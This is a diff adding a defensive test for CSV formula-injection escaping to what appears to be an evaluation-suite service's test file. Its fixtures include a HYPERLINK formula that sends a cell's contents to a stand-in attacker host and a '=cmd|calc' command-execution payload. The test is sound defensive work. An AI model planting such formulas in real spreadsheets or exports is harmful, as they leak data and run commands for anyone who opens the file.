@@ -232,6 +232,43 @@ describe.each(dialects)('evaluation suites on $dialect', ({ create }) => {
     },
   );
 
+  // Each starts with what a spreadsheet would run as a formula, or with a quote of its own.
+  const formulaCases = [
+    aCase(1, { query: '=HYPERLINK("http://evil.example/?"&A1,"Click for more robots")' }),
+    aCase(2, { query: '+1+1 robots in the factories of today?', tags: ['-risk', '@team'] }),
+    aCase(3, { query: '-2 robots per line: is that the norm?', description: '@mention the plant' }),
+    aCase(4, { query: '@robots: who mentions them most?', reference: '\tTabbed reference\r' }),
+    aCase(5, { query: "'=quoted already: how do robots fare?" }),
+    aCase(6, {
+      query: "'Tis the season for robots, is it not?",
+      variables: { who: '=cmd|calc' },
+      reference: '\rfirst',
+    }),
+  ];
+
+  it('writes no CSV cell that opens as a formula, and imports the export back unchanged', async () => {
+    const source = await make('Formulas', formulaCases);
+    const exported = await alice('GET', `${BASE}/${source.id}/export?format=csv`);
+    const { parse } = await import('csv-parse/sync');
+    const cells = (parse(exported.body, { relax_column_count: true }) as string[][]).slice(1).flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cells.slice(0, 7 * 5 + 1).filter((_, i) => i % 7 === 0)).toEqual([
+      '\'=HYPERLINK("http://evil.example/?"&A1,"Click for more robots")',
+      "'+1+1 robots in the factories of today?",
+      "'-2 robots per line: is that the norm?",
+      "'@robots: who mentions them most?",
+      "''=quoted already: how do robots fare?",
+      "'Tis the season for robots, is it not?",
+    ]);
+    const target = await make('Formulas back', []);
+    const imported = await alice('POST', `${BASE}/${target.id}/import`, {
+      format: 'csv',
+      content: exported.body,
+    });
+    expect(imported.statusCode, imported.body).toBe(200);
+    expect(imported.json().cases).toEqual(formulaCases);
+  });
+
   it('reads promptfoo tests: YAML (vars, assert with not-, description, metadata.tags)', async () => {
     const suite = await make('From promptfoo', []);
     const content = [
